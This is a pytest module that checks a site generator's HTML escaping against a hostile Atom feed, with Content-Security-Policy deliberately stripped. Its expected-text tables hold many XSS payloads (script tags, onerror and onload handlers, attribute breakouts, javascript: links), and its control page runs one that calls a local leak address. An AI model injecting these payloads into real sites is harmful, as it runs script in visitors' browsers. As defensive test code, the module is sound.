"""A hostile partner, without the Content-Security-Policy: the HTML sanitiser and the pages'
escaping must hold on their own (issue "Hardening", item 3).

Tests/Fixtures/hostile/xss.atom.xml is a valid feed with cross-site scripting vectors in every
field a partner writes. This module harvests it into an index of its own, serves it with
`drom serve` and exports it with `drom export site` (with its Pagefind index), and puts both
behind a small proxy that removes every Content-Security-Policy, so nothing but Drom's own
escaping stands between the payloads and the browser. A headless Chromium, hooked before any
page script runs (alert, confirm, prompt, print and a `window.__xss` setter record their calls;
the performance log records every request and navigation), opens each page. A page passes
when nothing ran, nothing left for another host, the page did not navigate away, its markup
holds nothing that could run later (handlers, script URLs, frames, plug-ins), and the hostile
text is there, shown as text.

What this module found, and Drom fixed, has tests of its own that click or provoke exactly
those payloads: a payload that ran by itself on the export's search page (Pagefind's interface
inserts filter values as HTML; test_static_search_shows_filter_values_as_text) and partners'
addresses that ran script when clicked (FINDINGS: contact phones and web sites, ELI
identifiers, licences, the registry's site addresses; now links only through
DromModel.SafeLink; test_partner_addresses_in_links_cannot_run_script). RUNNING lists payloads
still known to run by themselves, which the general tests would leave to their own: none.

Runs alone as well as through scripts/test-web: it needs only the drom binary (DROM_BIN,
default .build/debug/drom, copied first), Chromium and the venv's pagefind_bin."""

from __future__ import annotations

import csv
import html.parser
import io
import json
import mimetypes
import os
import re
import shutil
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
import xml.etree.ElementTree as ElementTree
from dataclasses import dataclass, field
from http import client as http_client
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import unquote, urlsplit

import pytest
from selenium.common.exceptions import UnexpectedAlertPresentException, WebDriverException
from selenium.webdriver.common.by import By
from selenium.webdriver.support.ui import WebDriverWait

from conftest import ARTIFACTS, CHROMEDRIVER, CHROMIUM, DESKTOP, ROOT, _die_with_parent, _free_port

FIXTURES = ROOT / "Tests/Fixtures/hostile"
REGISTRY = FIXTURES / "registry.opml"
FEED = FIXTURES / "xss.atom.xml"
QUERY = "xssprobe"  # every hostile entry says it
LEAK = "127.0.0.1:9"  # where every leaking payload points (port 9 is "discard": nobody listens)
SETTLE = 0.2  # seconds after the load event (which waits for images, so error events have fired) for late payloads


def _entry_ids() -> list[str]:
    atom = "{http://www.w3.org/2005/Atom}"
    return [entry.findtext(f"{atom}id") for entry in ElementTree.parse(FEED).getroot().iter(f"{atom}entry")]


ENTRY_IDS = _entry_ids()


def short(entry_id: str) -> str:
    """`tag:hostile.example.org,2026:practice/plain-text` → `practice/plain-text`."""
    return entry_id.split(":", 2)[-1]


# What must be visible as text on an entry's page besides its title (in the h1): the hostile
# text survives, shown literally, and the content after the vectors was not lost.
ENTRY_TEXT = {
    "practice/plain-text": [
        "xssprobe summary <img src=x onerror=alert('summary-1')> </p><script>window.__xss=1</script>",
        "xssprobe content one: the classics.",
        "the end of content one",
        "Team <script>alert('vcard-fn')</script>",
        "Outcome <img src=x onerror=alert('outcome')>",
        "Funding <svg onload=alert('funding')>",
    ],
    "practice/xhtml": ["<script>alert('xhtml-escaped-text')</script> shown as text"],
    "practice/mutation": ["xssprobe content three: mutation shapes.", "the end of content three"],
    "law/local-plan": ["National <img src=x onerror=alert('national-id')>"],
    "person/eve": ["Eve <svg onload=alert('person-fn')>", "\"><img src=x onerror=alert('person-role')>"],
    "organisation/org": ["Hostile Org \"><img src=x onerror=alert('org-fn')>"],
}

# Attributes on the first entry's page whose values must be the partner's text, literally.
ENTRY_ATTRIBUTES = {
    "practice/plain-text": [
        (".content a[title]", "title", "\"><script>alert('attr-title')</script>"),
        (".content a[hreflang]", "hreflang", "\"><img src=x onerror=alert(\"attr-hreflang\")>"),
        (".translations a[title]", "title",
         "xssprobe traduction \" onmouseover=\"alert('title-10')\" x=\" '><script>alert('title-10-script')</script>"),
    ],
}


# --- findings (fixed): links a partner writes that ran script when clicked -----------------


@dataclass(frozen=True)
class Finding:
    name: str
    pages: tuple[str, ...]  # the names of the PAGES (either site) where it shows; the first is clicked
    labels: tuple[str, ...]  # the payloads' alert labels
    where: str


FINDINGS = [
    Finding("contact-phone", ("entry:practice/plain-text",), ("vcard-tel",),
            "entry.mustache: contact cards' phones as <a href>, vCard <tel><uri> kept as written (ContactAdapter)"),
    Finding("contact-url", ("entry:practice/plain-text",), ("vcard-url",),
            "entry.mustache: contact cards' urls as <a href>, vCard <url><uri> kept as written (ContactAdapter)"),
    Finding("contact-phone-and-url-person", ("entry:person/eve",), ("person-tel", "person-url"),
            "the same for a person's card: JAVASCRIPT: and data:text/html"),
    Finding("contact-url-with-tab", ("entry:organisation/org",), ("org-url",),
            "the same for an organisation's card: java<TAB>script:"),
    Finding("legal-identifier", ("entry:law/local-plan",), ("eli",),
            "entry.mustache and diagnosis-item.mustache: any dcterms:identifier containing /eli/ becomes an <a href> "
            "(ProfileAdapter.legal)"),
    Finding("diagnosis-licence-and-eli", ("diagnosis:xssburg", "diagnosis:hostile"), ("license-1", "license-4", "eli"),
            "diagnosis.mustache: dcterms:license values as <a href> under the sources, and the law's ELI"),
    Finding("registry-site", ("sources", "diagnosis:xssburg", "diagnosis:hostile"), ("opml-html-url",),
            "sources.mustache (and the diagnosis' sources): the registry's htmlUrl as <a href>; "
            "the operator writes the registry, so less exposed"),
]

# Payloads known to run with no click, by page id, left to tests of their own. Found and fixed:
# - static-search: Pagefind's interface shows each filter value as HTML ({@html} in its filter
#   label). The export wrote the partner's place name escaped once, as it should, in
#   <span data-pagefind-filter="City">Xssville &lt;img …&gt;</span>; Pagefind indexed the text,
#   "Xssville <img src=x onerror=alert('place')>", and its interface made that an element.
RUNNING: dict[str, set[str]] = {}  # fixed: Pages drops < and > from Pagefind's filter values


def known_labels(page: Page) -> set[str]:
    """The findings' payloads on this page, which the general tests leave to the findings' own."""
    labels = set(RUNNING.get(page.id, set()))
    for finding in FINDINGS:
        if page.name in finding.pages:
            labels |= set(finding.labels)
    return labels


def _known(value: str, labels: set[str]) -> bool:
    return any(f"alert('{label}')" in value for label in labels)


# --- the pages -------------------------------------------------------------------------------


@dataclass(frozen=True)
class Page:
    site: str  # live (drom serve) or static (the export)
    name: str  # home, search, sources, city:<which>, diagnosis:<which>, entry:<short id>, visit, api-…

    @property
    def id(self) -> str:
        return f"{self.site}-{self.name}"


COMMON = ["home", "search", "sources", "city:xssburg", "city:hostile", "diagnosis:xssburg", "diagnosis:hostile"]
ENTRIES = [f"entry:{short(entry_id)}" for entry_id in ENTRY_IDS]
PAGES = (
    [Page("live", name) for name in COMMON + ENTRIES + ["visit", "api-search", "api-entry"]]
    + [Page("static", name) for name in COMMON + ENTRIES]
)


# --- the proxy that takes the Content-Security-Policy away -----------------------------------

POLICY_HEADERS = {
    "content-security-policy", "content-security-policy-report-only", "x-content-security-policy", "x-webkit-csp",
}
HOP_BY_HOP = {"connection", "keep-alive", "transfer-encoding", "content-length", "content-encoding", "te", "trailer",
              "upgrade", "proxy-authenticate", "proxy-authorization"}
POLICY_META = re.compile(rb"""<meta\b[^>]*http-equiv\s*=\s*["']?\s*content-security-policy[^>]*>""", re.IGNORECASE)

# A page the proxy makes itself, on which a payload does run: it proves that the policy is gone
# and that every detector below sees what it is meant to.
CONTROL_PAGE = b"""<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>control</title></head>
<body><main id="content"><h1>control</h1>
<img src="/no-such-image" onerror="alert('control-img')">
<script>window.__xss = 1; fetch("http://127.0.0.1:9/leak").catch(function () {});</script>
<p><a href="javascript:alert('control-link')">control link</a></p>
</main></body></html>"""
CONTROL_NAVIGATION = b"""<!DOCTYPE html><html lang="en"><head><meta charset="utf-8">
<meta http-equiv="refresh" content="0;url=/en/"><title>control</title></head><body><p>moving</p></body></html>"""

mimetypes.add_type("application/wasm", ".wasm")
mimetypes.add_type("text/javascript", ".js")


class PolicyStrippingHandler(BaseHTTPRequestHandler):
    """GET and HEAD, from `drom serve` (upstream) or from a folder (the export), with every
    Content-Security-Policy removed: the headers, and <meta http-equiv> in HTML."""

    upstream: str | None = None  # host:port of drom serve
    folder: Path | None = None  # the static export

    def log_message(self, *args):  # quiet
        pass

    def do_HEAD(self):
        self.do_GET(body=False)

    def do_GET(self, body: bool = True):
        if self.path.startswith("/__hostile_control__"):
            return self.reply(200, [("Content-Type", "text/html; charset=utf-8")], CONTROL_PAGE, body)
        if self.path.startswith("/__hostile_control_navigation__"):
            return self.reply(200, [("Content-Type", "text/html; charset=utf-8")], CONTROL_NAVIGATION, body)
        if self.upstream:
            status, headers, content = self.fetch_upstream()
        else:
            status, headers, content = self.read_file()
        kept = [(name, value) for name, value in headers
                if name.lower() not in POLICY_HEADERS and name.lower() not in HOP_BY_HOP]
        content_type = next((value for name, value in kept if name.lower() == "content-type"), "")
        if "html" in content_type:
            content = POLICY_META.sub(b"", content)
        self.reply(status, kept, content, body)

    def reply(self, status, headers, content: bytes, body: bool) -> None:
        self.send_response(status)
        for name, value in headers:
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(content)))
        self.send_header("Connection", "close")
        self.end_headers()
        if body:
            self.wfile.write(content)

    def fetch_upstream(self):
        connection = http_client.HTTPConnection(self.upstream, timeout=30)
        try:
            headers = {name: value for name, value in self.headers.items()
                       if name.lower() not in HOP_BY_HOP and name.lower() != "accept-encoding"}
            headers["Accept-Encoding"] = "identity"
            connection.request(self.command, self.path, headers=headers)
            response = connection.getresponse()
            return response.status, response.getheaders(), response.read()
        finally:
            connection.close()

    def read_file(self):
        path = unquote(urlsplit(self.path).path)
        target = (self.folder / path.lstrip("/")).resolve()
        if not target.is_relative_to(self.folder):
            return 403, [("Content-Type", "text/plain")], b"outside the site"
        if target.is_dir():
            if not path.endswith("/"):
                return 301, [("Location", path + "/")], b""
            target = target / "index.html"
        if not target.is_file():
            missing = self.folder / "404.html"
            page = missing.read_bytes() if missing.exists() else b""
            return 404, [("Content-Type", "text/html; charset=utf-8")], page
        kind = mimetypes.guess_type(target.name)[0] or "application/octet-stream"
        if kind.startswith("text/") or kind in ("application/json", "application/xml"):
            kind += "; charset=utf-8"
        return 200, [("Content-Type", kind)], target.read_bytes()


def start_proxy(*, upstream: str | None = None, folder: Path | None = None):
    handler = type("Handler", (PolicyStrippingHandler,), {"upstream": upstream, "folder": folder})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, name="hostile-proxy", daemon=True)
    thread.start()
    return server, f"http://127.0.0.1:{server.server_address[1]}"


# --- the hostile network: harvest, serve, export, proxies ------------------------------------


@dataclass
class Hostile:
    upstream: str  # drom serve itself, with its policy
    live: str  # drom serve through the proxy
    static: str  # the export through the proxy
    site: Path
    entries: dict[str, dict]  # short id → the export's directory.json record (title, page, …)
    cities: dict[str, str]  # xssburg / hostile → the city's slug
    visits: dict[str, Visit] = field(default_factory=dict)

    def base(self, site: str) -> str:
        return self.live if site == "live" else self.static

    def url(self, page: Page) -> str:
        kind, _, which = page.name.partition(":")
        slash = "/" if page.site == "static" else ""
        if kind == "home":
            path = "/en/"
        elif kind == "search":
            path = f"/en/search{slash}?q={QUERY}"
        elif kind == "sources":
            path = f"/en/sources{slash}"
        elif kind == "city":
            path = f"/en/city/{self.cities[which]}/"
        elif kind == "diagnosis":
            path = f"/en/city/{self.cities[which]}/diagnosis/"
        elif kind == "entry":
            path = self.entries[which]["page"] + slash
        elif kind == "visit":
            path = "/en/visit?" + "&".join(f"visit={self.slug(entry)}" for entry in self.entries)
        elif kind == "api-search":
            path = f"/api/search?q={QUERY}&lang=en"
        elif kind == "api-entry":
            path = "/api/entries/" + self.slug("practice/plain-text")
        else:
            raise AssertionError(page.name)
        return self.base(page.site) + path

    def slug(self, entry: str) -> str:
        return self.entries[entry]["page"].rsplit("/", 1)[-1]


def _run(command: list[str], log: Path, cwd: Path) -> None:
    with open(log, "wb") as out:
        result = subprocess.run(command, cwd=cwd, stdout=out, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL,
                                timeout=240)
    if result.returncode != 0:
        output = log.read_text(errors="replace")[-3000:]
        pytest.fail(f"{' '.join(command[:3])} exited with {result.returncode}:\n{output}")


def _get(url: str, timeout: float = 10) -> tuple[int, dict, bytes]:
    request = urllib.request.Request(url, headers={"Accept-Encoding": "identity"})
    try:
        with urllib.request.urlopen(request, timeout=timeout) as response:
            return response.status, dict(response.headers.items()), response.read()
    except urllib.error.HTTPError as error:
        with error:
            return error.code, dict(error.headers.items()), error.read()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Hostile:
    work = tmp_path_factory.mktemp("hostile")
    # The binary is copied first: the .build folder may be rebuilt while the tests run.
    source = Path(os.environ.get("DROM_BIN", ROOT / ".build/debug/drom"))
    if not source.is_absolute():
        source = ROOT / source
    if not source.exists():
        pytest.fail(f"no drom binary at {source}: build it (scripts/build) or set DROM_BIN")
    drom = work / "drom"
    shutil.copy2(source, drom)
    database = work / "hostile.sqlite"
    site = work / "site"
    data = ["--vocabularies", str(ROOT / "Vocabularies")]
    pages = ["--site", str(ROOT / "Site"), "--documents", str(ROOT / "docs")]

    _run([str(drom), "harvest", "--registry", str(REGISTRY), "--db", str(database), *data], work / "harvest.log", work)
    try:
        import pagefind_bin  # noqa: F401  (the venv's; without it the export has no search index)

        pagefind = f"{sys.executable} -m pagefind_bin"
    except ImportError:
        pagefind = ""
    _run([str(drom), "export", "site", "--db", str(database), "--out", str(site), "--pagefind", pagefind,
          *data, *pages], work / "export.log", work)

    port = _free_port()
    upstream = f"127.0.0.1:{port}"
    log_path = ARTIFACTS / "drom-serve-hostile.log"
    log_path.parent.mkdir(parents=True, exist_ok=True)
    with open(log_path, "wb") as log:
        process = subprocess.Popen(
            [str(drom), "serve", "--db", str(database), "--host", "127.0.0.1", "--port", str(port), *data, *pages],
            cwd=work, stdout=log, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL, preexec_fn=_die_with_parent,
        )
    proxies = []
    try:
        deadline = time.monotonic() + 30
        while True:
            try:
                status, _, body = _get(f"http://{upstream}/healthz", timeout=2)
                if status == 200 and json.loads(body)["entries"] > 0:
                    break
            except (OSError, ValueError):
                pass
            if process.poll() is not None or time.monotonic() > deadline:
                pytest.fail(f"drom serve did not start (exit {process.poll()}); see {log_path}")
            time.sleep(0.1)

        live_server, live = start_proxy(upstream=upstream)
        static_server, static = start_proxy(folder=site.resolve())
        proxies = [live_server, static_server]

        directory = json.loads((site / "directory.json").read_text(encoding="utf8"))["entries"]
        entries = {short(record["id"]): record for record in directory}
        missing = [short(entry_id) for entry_id in ENTRY_IDS if short(entry_id) not in entries]
        assert not missing, f"hostile entries not in the index (dropped at harvest?): {missing}; see {work}/harvest.log"

        home = _get(live + "/en/")[2].decode("utf8")
        slugs = sorted(set(re.findall(r'href="/en/city/([^/"]+)/"', home)))
        cities = {"xssburg": "xssburg"}
        others = [slug for slug in slugs if slug != "xssburg"]
        assert "xssburg" in slugs and len(others) == 1, f"the home page lists the cities {slugs}"
        cities["hostile"] = others[0]

        yield Hostile(upstream=f"http://{upstream}", live=live, static=static, site=site, entries=entries,
                      cities=cities)
    finally:
        for server in proxies:
            server.shutdown()
            server.server_close()
        process.terminate()
        try:
            process.wait(timeout=10)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait(timeout=10)


# --- the browser, hooked before any page script ----------------------------------------------

HOOK = r"""
(() => {
  const record = (what) => {
    const line = what + " @ " + String(location.href).slice(0, 160);
    const windows = [window];
    try { if (window.top !== window) windows.push(window.top); } catch (e) {}
    for (const w of windows) {
      try { (w.__hostileCalls = w.__hostileCalls || []).push(line); } catch (e) {}
    }
    try {
      const kept = JSON.parse(sessionStorage.getItem("__hostileCalls") || "[]");
      kept.push(line);
      sessionStorage.setItem("__hostileCalls", JSON.stringify(kept));
    } catch (e) {}
  };
  const show = (args) => Array.from(args, (a) => { try { return String(a); } catch (e) { return "?"; } }).join(", ");
  for (const name of ["alert", "confirm", "prompt", "print"]) {
    const hook = function () { record(name + "(" + show(arguments) + ")"); return name === "confirm" ? false : null; };
    try { Object.defineProperty(window, name, { value: hook, writable: false, configurable: false }); }
    catch (e) { window[name] = hook; }
  }
  let value;
  try {
    Object.defineProperty(window, "__xss", {
      configurable: false,
      get() { return value; },
      set(v) { value = v; record("window.__xss = " + show([v])); },
    });
  } catch (e) {}
})();
"""

# Everything in the page that could run script or load from elsewhere, now or on a click.
AUDIT = r"""
const problems = [];
const here = location.origin;
const safe = new Set(["http:", "https:", "mailto:", "tel:"]);
const describe = (el) => el.outerHTML.slice(0, 400);
const loads = new Set(["src", "data", "poster", "background", "codebase", "longdesc", "manifest", "lowsrc",
  "dynsrc", "action", "formaction", "srcset", "imagesrcset"]);
const links = new Set(["href", "xlink:href", "ping", "cite"]);
for (const el of document.querySelectorAll("*")) {
  for (const attr of Array.from(el.attributes)) {
    const name = attr.name.toLowerCase();
    if (name.startsWith("on")) { problems.push(["event handler " + name, attr.value, describe(el)]); continue; }
    if (name === "srcdoc") { problems.push(["srcdoc", attr.value, describe(el)]); continue; }
    if (name === "style" && /url\s*\(|expression|@import|javascript:|behaviou?r|binding/i.test(attr.value)) {
      problems.push(["style", attr.value, describe(el)]); continue;
    }
    const isLink = links.has(name) || name.endsWith(":href");
    if (!isLink && !loads.has(name)) continue;
    const values = name.endsWith("srcset") ? attr.value.split(",").map((s) => s.trim().split(/\s+/)[0]) : [attr.value];
    // Pagefind's interface submits its own form to nothing: javascript:void(0).
    if (name === "action" && el.matches("form.pagefind-ui__form") && attr.value === "javascript:void(0);") continue;
    for (const v of values) {
      let url;
      try { url = new URL(v, document.baseURI); } catch (e) { continue; }
      // The registry's feed is a local file, as in the sample network: a link, nothing runs.
      if (url.protocol === "file:" && name === "href" && el.localName === "a" && v === %s) continue;
      if (!safe.has(url.protocol)) {
        problems.push(["a " + url.protocol + " address in " + name, attr.value, describe(el)]);
      }
      else if ((loads.has(name) || el.localName === "link") && url.origin !== here)
        problems.push(["loads from " + url.origin + " (" + name + ")", attr.value, describe(el)]);
    }
  }
}
const scripts = new Set(["/pagefind/pagefind-ui.js"]);
for (const el of document.querySelectorAll(
    "script, iframe, frame, frameset, object, embed, applet, portal, base, meta[http-equiv], template, noscript, " +
    "math, video, audio, source, track, img, picture, image, input[type=image], body link, body style, " +
    "textarea, select")) {
  if (el.localName === "script" && el.src) {
    const url = new URL(el.src, document.baseURI);
    if (url.origin === here && (scripts.has(url.pathname) || /^\/assets\/[\w.-]+\.js$/.test(url.pathname))) continue;
  }
  // The export's search page asks for Pagefind's stylesheet in its body.
  if (el.localName === "link" && el.rel === "stylesheet" && el.getAttribute("href") === "/pagefind/pagefind-ui.css") {
    continue;
  }
  problems.push(["element <" + el.localName + ">", "", describe(el)]);
}
if (document.baseURI !== location.href) problems.push(["base address", document.baseURI, ""]);
return problems;
"""

# What the text tests read, taken with the rest so that each page is opened once.
TEXT_SELECTORS = {
    "h1": "main h1",
    "results": "ol.results li.result h3 a",
    "pagefind": ".pagefind-ui__result-link",
}
ATTRIBUTE_SELECTORS = sorted({(selector, attribute) for checks in ENTRY_ATTRIBUTES.values()
                              for selector, attribute, _ in checks})

STATE = r"""
const texts = {};
for (const [name, selector] of Object.entries(%s)) {
  texts[name] = Array.from(document.querySelectorAll(selector), (el) => el.innerText);
}
const attributes = {};
for (const [selector, attribute] of %s) {
  attributes[selector + " " + attribute] =
    Array.from(document.querySelectorAll(selector), (el) => el.getAttribute(attribute));
}
let stored = [];
try {
  stored = JSON.parse(sessionStorage.getItem("__hostileCalls") || "[]");
  sessionStorage.removeItem("__hostileCalls");
} catch (e) {}
return {
  calls: (window.__hostileCalls || []).concat(stored),
  xss: typeof window.__xss === "undefined" ? null : String(window.__xss),
  url: location.href,
  text: document.body ? document.body.innerText : "",
  texts: texts,
  attributes: attributes,
  audit: (() => { %s })(),
};
""" % (json.dumps(TEXT_SELECTORS), json.dumps(ATTRIBUTE_SELECTORS), AUDIT % json.dumps(FEED.resolve().as_uri()))


@pytest.fixture(scope="module")
def chromium():
    """A headless Chromium of this module's own, with the performance log (network and page
    events) and the hooks installed in every document before its scripts."""
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    options = webdriver.ChromeOptions()
    options.binary_location = CHROMIUM
    for argument in (
        "--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--disable-gpu", "--no-first-run",
        "--no-default-browser-check", "--disable-extensions", "--disable-background-networking",
        "--disable-component-update", "--disable-sync", "--lang=en-GB", f"--window-size={DESKTOP[0]},{DESKTOP[1]}",
    ):
        options.add_argument(argument)
    options.set_capability("goog:loggingPrefs", {"performance": "ALL", "browser": "ALL"})
    options.add_experimental_option("perfLoggingPrefs", {"enableNetwork": True, "enablePage": True})
    # A dialog the hooks missed stays open and is reported, never silently accepted.
    options.set_capability("unhandledPromptBehavior", "ignore")
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    service = Service(executable_path=CHROMEDRIVER, log_output=str(ARTIFACTS / "chromedriver-hostile.log"))
    driver = webdriver.Chrome(options=options, service=service)
    driver.set_page_load_timeout(30)
    try:
        driver.execute_cdp_cmd("Page.enable", {})
        driver.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": HOOK})
        yield driver
    finally:
        driver.quit()


@dataclass
class Visit:
    url: str
    final_url: str
    calls: list[str]
    xss: str | None
    text: str
    texts: dict[str, list[str]]  # TEXT_SELECTORS' texts
    attributes: dict[str, list[str]]  # ATTRIBUTE_SELECTORS' values
    audit: list[list[str]]
    offsite: list[str]  # requests to any other origin than the page's server
    navigations: list[str]  # the main frame's navigations
    dialogs: list[str]

    def ran(self, known: set[str] = frozenset()) -> list[str]:
        """Evidence that a payload ran (empty when none did), but for the known labels given."""
        calls = [call for call in self.calls if not any(call.startswith(f"alert({label}) ") for label in known)]
        evidence = [f"called {call}" for call in calls] + [f"dialog {d!r}" for d in self.dialogs]
        if self.xss is not None:
            evidence.append(f"window.__xss is {self.xss!r}")
        return evidence


def _events(driver) -> list[tuple[str, dict]]:
    events = []
    for entry in driver.get_log("performance"):
        message = json.loads(entry["message"])["message"]
        events.append((message["method"], message.get("params", {})))
    return events


def _dialog_open(driver) -> str | None:
    try:
        alert = driver.switch_to.alert
    except WebDriverException:
        return None
    text = alert.text
    alert.dismiss()
    return text


def visit(driver, url: str, prepare=None) -> Visit:
    """Opens the page and collects what happened; `prepare(driver)` may act on the page first
    (search, click)."""
    dialogs = []
    try:
        # Forget what the page before left (its calls, kept in its origin's sessionStorage).
        driver.execute_script("try { sessionStorage.removeItem('__hostileCalls'); } catch (e) {}")
    except WebDriverException:
        pass
    _events(driver)  # drop what came before
    try:
        driver.get(url)
        if prepare:
            prepare(driver)
        time.sleep(SETTLE)
        state = driver.execute_script(STATE)
    except UnexpectedAlertPresentException as error:
        dialogs.append(error.alert_text or "?")
        while (text := _dialog_open(driver)) is not None:
            dialogs.append(text)
        state = driver.execute_script(STATE)
    if (text := _dialog_open(driver)) is not None:
        dialogs.append(text)
    origin = "{0.scheme}://{0.netloc}".format(urlsplit(url))
    offsite, navigations = [], []
    for method, params in _events(driver):
        if method == "Network.requestWillBeSent":
            address = params["request"]["url"]
            parts = urlsplit(address)
            if parts.scheme in ("http", "https", "ws", "wss") and f"{parts.scheme}://{parts.netloc}" != origin:
                offsite.append(address)
            elif parts.scheme not in ("http", "https", "data"):
                offsite.append(address)
        elif method == "Network.webSocketCreated":
            offsite.append(params["url"])
        elif method == "Page.frameNavigated" and not params["frame"].get("parentId"):
            navigations.append(params["frame"]["url"])
        elif method == "Page.javascriptDialogOpening":
            dialogs.append(params.get("message", ""))
    return Visit(url=url, final_url=state["url"], calls=state["calls"], xss=state["xss"], text=state["text"],
                 texts=state["texts"], attributes=state["attributes"], audit=state["audit"], offsite=offsite,
                 navigations=navigations, dialogs=dialogs)


def _load_all_static_results(driver) -> None:
    """The export's search is Pagefind's interface: wait for its results and show them all."""
    WebDriverWait(driver, 30).until(lambda d: d.find_elements(By.CSS_SELECTOR, ".pagefind-ui__result-link"))
    for _ in range(10):
        more = driver.find_elements(By.CSS_SELECTOR, ".pagefind-ui__button")
        if not more:
            break
        count = len(driver.find_elements(By.CSS_SELECTOR, ".pagefind-ui__result-link"))
        more[0].click()
        WebDriverWait(driver, 10).until(
            lambda d: len(d.find_elements(By.CSS_SELECTOR, ".pagefind-ui__result-link")) > count
            or not d.find_elements(By.CSS_SELECTOR, ".pagefind-ui__button"))


def page_visit(hostile: Hostile, driver, page: Page) -> Visit:
    """Each page is opened once and its visit shared by the tests about it."""
    if page.id not in hostile.visits:
        prepare = None
        if page.site == "static" and page.name == "search":
            if not (hostile.site / "pagefind").is_dir():
                pytest.skip("the export has no Pagefind index (pagefind_bin is not installed)")
            prepare = _load_all_static_results
        hostile.visits[page.id] = visit(driver, hostile.url(page), prepare)
    return hostile.visits[page.id]


def _flat(text: str) -> str:
    return re.sub(r"\s+", " ", text).strip()


# --- the harness itself ----------------------------------------------------------------------


def test_the_proxy_removes_the_policy(hostile):
    for path in ("/en/", f"/en/search?q={QUERY}", "/api/search?q=" + QUERY):
        _, direct, _ = _get(hostile.upstream + path)
        assert "default-src 'none'" in direct.get("Content-Security-Policy", ""), f"drom serve sent no policy on {path}"
        _, proxied, body = _get(hostile.live + path)
        assert not POLICY_HEADERS & {name.lower() for name in proxied}, f"the proxy kept a policy on {path}"
        assert not POLICY_META.search(body)
    _, proxied, body = _get(hostile.static + "/en/")
    assert not POLICY_HEADERS & {name.lower() for name in proxied} and not POLICY_META.search(body)


def test_the_detectors_see_a_payload_that_runs(hostile, chromium):
    """A page of the proxy's own runs a payload of each kind: every detector must see it, or a
    green result below would prove nothing."""
    seen = visit(chromium, hostile.live + "/__hostile_control__")
    assert any("alert(control-img)" in call for call in seen.calls), seen
    assert seen.xss == "1", seen
    assert any(LEAK in address for address in seen.offsite), f"the request to {LEAK} was not seen: {seen.offsite}"
    assert any("javascript:" in problem[0] for problem in seen.audit), seen.audit
    moved = visit(chromium, hostile.live + "/__hostile_control_navigation__")
    time.sleep(0.5)
    assert moved.final_url != moved.url or len(moved.navigations) > 1, moved


# --- every page ------------------------------------------------------------------------------


@pytest.mark.parametrize("page", PAGES, ids=lambda page: page.id)
def test_no_payload_runs(hostile, chromium, page: Page):
    seen = page_visit(hostile, chromium, page)
    known = RUNNING.get(page.id, set())  # only these may have run (the click findings need a click)
    assert not seen.ran(known), f"a payload ran on {seen.url}:\n" + "\n".join(seen.ran(known))
    assert not any(LEAK in address for address in seen.offsite), f"a request to {LEAK}: {seen.offsite}"
    assert not seen.offsite, f"requests left the server: {seen.offsite}"
    assert seen.final_url == seen.url, f"the page moved from {seen.url} to {seen.final_url}"
    assert all(address == seen.url for address in seen.navigations), f"navigations: {seen.navigations}"


@pytest.mark.parametrize("page", [p for p in PAGES if not p.name.startswith("api-")], ids=lambda page: page.id)
def test_nothing_in_the_page_could_run(hostile, chromium, page: Page):
    """No handler, script address, frame, plug-in, foreign load or stray element: nothing that
    would run later (a click, a hover) either. The findings listed in FINDINGS are left to
    their own test."""
    seen = page_visit(hostile, chromium, page)
    labels = known_labels(page)
    problems = [problem for problem in seen.audit if not _known(problem[1], labels)
                and not (problem[0] == "element <img>" and _known(problem[2], labels))]
    assert not problems, f"{len(problems)} things on {seen.url} could run or load:\n" + "\n".join(
        f"- {what}: {value!r}\n    {snippet}" for what, value, snippet in problems)


@pytest.mark.parametrize("page", PAGES, ids=lambda page: page.id)
def test_hostile_text_is_shown_as_text(hostile, chromium, page: Page):
    """The entries were not simply dropped: their hostile text is on the page, as text."""
    seen = page_visit(hostile, chromium, page)
    text = _flat(seen.text)
    titles = {name: _flat(record["title"]) for name, record in hostile.entries.items()}
    kind, _, which = page.name.partition(":")
    if kind == "entry":
        h1 = _flat(" ".join(seen.texts["h1"]))
        assert h1 == titles[which], f"the page's h1 {h1!r} is not the entry's title {titles[which]!r}"
        for expected in ENTRY_TEXT.get(which, []):
            assert _flat(expected) in text, f"{expected!r} is not shown on {seen.url}"
        for selector, attribute, expected in ENTRY_ATTRIBUTES.get(which, []):
            values = seen.attributes[f"{selector} {attribute}"]
            assert expected in values, f"{selector} [{attribute}] is {values}, not the partner's text {expected!r}"
    elif kind == "search" and page.site == "static":
        shown = {_flat(link) for link in seen.texts["pagefind"]}
        assert shown, "Pagefind shows no result"
        assert shown <= set(titles.values()), f"results that are no entry's title: {shown - set(titles.values())}"
        assert titles["practice/plain-text"] in shown or len(shown) >= 10, shown
        assert any("<script>" in title for title in shown), f"no title shows <script> as text: {shown}"
    elif kind in ("search", "city", "home"):
        shown = {_flat(link) for link in seen.texts["results"]}
        assert shown, f"{seen.url} lists no entry"
        assert shown <= set(titles.values()), f"results that are no entry's title: {shown - set(titles.values())}"
        if kind == "search" or which == "xssburg":
            assert len(shown) >= 10, f"only {len(shown)} hostile entries listed: {shown}"
        if which == "hostile":
            assert "Xssville <img src=x onerror=alert('place')>" in _flat(" ".join(seen.texts["h1"]))
        if kind == "home":
            assert "Xssville <img src=x onerror=alert('place')>" in text, "the hostile city is not listed as text"
    elif kind == "diagnosis":
        assert "Xssburg" in text or "Xssville <img src=x onerror=alert('place')>" in text
        if which == "xssburg":
            assert titles["finding/recruitment"] in text, "the finding is not in its city's diagnosis"
            assert titles["law/local-plan"] in text, "the local plan is not in its city's diagnosis"
    elif kind == "sources":
        assert "Hostile partner <script>alert('opml-text')</script> (Xssburg)" in text
    elif kind == "visit":
        assert titles["practice/plain-text"] in text and "Team <script>alert('vcard-fn')</script>" in text
    elif kind.startswith("api-"):
        # Chromium shows JSON as text; the strings are JSON's, never markup.
        assert "<img src=x onerror=alert('title-1-img')>" in text, text[:500]
    else:
        raise AssertionError(page.name)


